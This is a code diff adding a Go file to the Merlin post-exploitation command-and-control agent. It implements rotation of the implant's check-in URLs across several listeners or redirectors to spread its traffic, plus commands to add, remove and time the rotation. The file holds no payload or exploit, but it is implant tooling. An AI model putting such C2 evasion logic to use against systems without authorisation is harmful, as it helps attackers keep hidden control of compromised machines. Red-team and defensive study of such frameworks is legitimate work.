@@ -0,0 +1,151 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"errors"
+	"fmt"
+	"net/url"
+	"strings"
+	"sync"
+	"time"
+)
+
+// callbacks are the URLs the agent rotates its check ins across to spread its traffic over several listeners or
+// redirectors. Every URL must use the agent's protocol.
+type callbacks struct {
+	sync.Mutex
+	urls  []string
+	index int       // The URL in use
+	since time.Time // When the URL in use was selected; zero until the first rotation
+}
+
+// newCallbacks returns the callbacks for a comma separated list of URLs
+func newCallbacks(urls string) *callbacks {
+	c := &callbacks{}
+	for _, u := range strings.Split(urls, ",") {
+		if u = strings.TrimSpace(u); u != "" {
+			c.urls = append(c.urls, u)
+		}
+	}
+	return c
+}
+
+// current returns the URL in use
+func (c *callbacks) current() string {
+	c.Lock()
+	defer c.Unlock()
+	if len(c.urls) == 0 {
+		return ""
+	}
+	return c.urls[c.index]
+}
+
+// next returns the URL to check in with, moving to the next URL once the one in use has been used for the rotate
+// duration; a zero duration moves to the next URL on every check in
+func (c *callbacks) next(rotate time.Duration) string {
+	c.Lock()
+	defer c.Unlock()
+	if len(c.urls) == 0 {
+		return ""
+	}
+	now := time.Now()
+	if c.since.IsZero() {
+		c.since = now
+	} else if len(c.urls) > 1 && now.Sub(c.since) >= rotate {
+		c.index = (c.index + 1) % len(c.urls)
+		c.since = now
+	}
+	return c.urls[c.index]
+}
+
+// list returns a copy of the URLs
+func (c *callbacks) list() []string {
+	c.Lock()
+	defer c.Unlock()
+	return append([]string(nil), c.urls...)
+}
+
+// add appends the URL to the rotation
+func (c *callbacks) add(u string) error {
+	parsed, err := url.Parse(u)
+	if err != nil || parsed.Scheme == "" || parsed.Host == "" {
+		return fmt.Errorf("%s is not a valid callback URL", u)
+	}
+	c.Lock()
+	defer c.Unlock()
+	for _, existing := range c.urls {
+		if existing == u {
+			return fmt.Errorf("%s is already a callback URL", u)
+		}
+	}
+	c.urls = append(c.urls, u)
+	return nil
+}
+
+// remove takes the URL out of the rotation; the last URL can not be removed
+func (c *callbacks) remove(u string) error {
+	c.Lock()
+	defer c.Unlock()
+	for i, existing := range c.urls {
+		if existing != u {
+			continue
+		}
+		if len(c.urls) == 1 {
+			return errors.New("the last callback URL can not be removed")
+		}
+		c.urls = append(c.urls[:i], c.urls[i+1:]...)
+		// Keep using the same URL, or move to the one after the removed URL if it was in use
+		switch {
+		case i < c.index:
+			c.index--
+		case i == c.index:
+			c.index %= len(c.urls)
+			c.since = time.Now()
+		}
+		return nil
+	}
+	return fmt.Errorf("%s is not a callback URL", u)
+}
+
+// controlCallbacks handles the callbacks AgentControl command: add <url>, remove <url>, or rotate <duration>
+func (a *Agent) controlCallbacks(args string) error {
+	fields := strings.Fields(args)
+	if len(fields) != 2 {
+		return errors.New("the callbacks command must be add <url>, remove <url>, or rotate <duration>")
+	}
+	switch fields[0] {
+	case "add":
+		return a.callbacks.add(fields[1])
+	case "remove":
+		if err := a.callbacks.remove(fields[1]); err != nil {
+			return err
+		}
+		a.URL = a.callbacks.current()
+	case "rotate":
+		d, err := time.ParseDuration(fields[1])
+		if err != nil || d < 0 {
+			return fmt.Errorf("%s is not a valid callback rotation duration", fields[1])
+		}
+		a.Rotate = d
+	default:
+		return fmt.Errorf("%s is not a valid callbacks command; use add, remove, or rotate", fields[0])
+	}
+	return nil
+}